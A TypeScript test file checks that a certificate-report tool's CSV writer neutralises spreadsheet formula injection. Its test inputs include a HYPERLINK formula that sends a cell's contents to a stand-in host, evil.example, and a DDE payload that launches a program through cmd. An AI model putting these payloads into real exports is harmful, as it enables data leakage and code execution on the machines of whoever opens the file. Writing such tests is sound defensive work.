/**
 * CSV formula injection (OWASP "CSV Injection"): a text cell that starts
 * with =, +, -, @, a tab or a CR runs as a formula when the report is opened
 * in a spreadsheet. Every CSV revwatch writes goes through csvCell (toCsv for
 * the report and the bundle, statusCsv for notice attachments).
 */
import { describe, expect, it } from 'vitest';
import { CSV_HEADER, csvCell, toCsv } from '../../../src/report/formats.js';
import type { ReportCertificate } from '../../../src/report/case-report.js';

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","click")', `"'=HYPERLINK(""http://evil.example"",""click"")"`],
    ['+1+cmd|/C calc!A0', `"'+1+cmd|/C calc!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('leaves ordinary text and numbers as they are, and quotes what RFC 4180 asks to', () => {
    expect(csvCell('www.example.com')).toBe('www.example.com');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("O'Reilly")).toBe("O'Reilly");
    // A number (late_by_seconds of an early revocation) stays a number.
    expect(csvCell(-3600)).toBe('-3600');
    expect(csvCell(null)).toBe('');
    expect(csvCell(true)).toBe('true');
  });

  it('neutralises a hostile subject CN and SAN in the report CSV', () => {
    const cert = {
      sha256: 'ab'.repeat(32),
      crtshUrl: null,
      serial: '01',
      subjectCN: '=HYPERLINK("http://evil.example/?"&A1,"x")',
      sans: ['@evil.example'],
      notBefore: '2026-01-01T00:00:00Z',
      notAfter: '2026-12-01T00:00:00Z',
      issuer: '-CN=Issuer',
      revocationTime: null,
      reasonCode: null,
      effectiveRevocationTime: null,
      firstSeenRevokedAt: null,
      lastSeenGoodAt: null,
      deadline: null,
      verdict: 'overdue',
      lateBySeconds: null,
      reportToRevocationSeconds: null,
    } as unknown as ReportCertificate;
    const [header, row] = toCsv({ certificates: [cert] }).split('\r\n');
    expect(header).toBe(CSV_HEADER.join(','));
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(row).toContain(`"'@evil.example"`);
    expect(row).toContain(`"'-CN=Issuer"`);
    // No cell of the row starts a formula: each starts with a quote, a letter or a digit, or is empty.
    expect(row).not.toMatch(/(^|,)[=+\-@]/);
  });
});
